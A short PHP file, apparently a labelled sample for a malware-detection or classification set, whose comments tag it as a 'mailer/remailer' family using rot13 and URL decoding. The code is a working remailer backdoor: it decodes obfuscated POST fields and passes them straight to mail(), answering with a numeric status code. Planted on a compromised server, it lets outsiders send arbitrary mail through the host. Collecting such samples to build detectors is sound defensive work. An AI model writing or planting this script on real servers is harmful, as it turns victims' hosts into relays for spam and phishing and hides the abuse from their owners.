<?php
// Family: mailer/remailer
// Style: remailer with rot13 and url-decoding
// Trait: request fields rot13 and url decoded before the send call, reply is a numeric code
$f = array_map('str_rot13', array_map('urldecode', $_POST));
die((string)(mail($f['x1'], $f['x2'], $f['x3'], $f['x4']) ? 200 : 500));
